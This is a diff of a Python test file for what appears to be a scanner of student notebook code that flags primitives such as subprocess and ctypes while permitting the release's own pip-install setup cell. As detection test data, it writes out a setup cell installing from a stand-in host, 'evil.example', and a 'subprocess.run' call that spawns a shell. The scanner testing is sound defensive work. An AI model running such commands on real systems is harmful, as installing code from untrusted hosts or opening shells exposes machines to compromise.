@@ -382,6 +382,9 @@ def test_only_the_unchanged_release_setup_cell_may_pip_install():
     other = SETUP_TEMPLATE.format(install_url="https://evil.example/x.tar.gz")
     assert "subprocess" in primitives(other)
     assert "subprocess" in primitives(setup + "subprocess.run(['sh'])\n")
+    # a student's lines added to the setup cell are scanned, the setup's own pip install is not an item
+    assert scan.scan_source("# run me first\n%matplotlib inline\n" + setup + "\nx = 1\n") == []
+    assert [(f.line, f.primitive) for f in scan.scan_source("import ctypes\n" + setup)] == [(1, "ctypes")]
 
 
 def test_the_setup_cell_of_an_earlier_release_is_allowed_too():
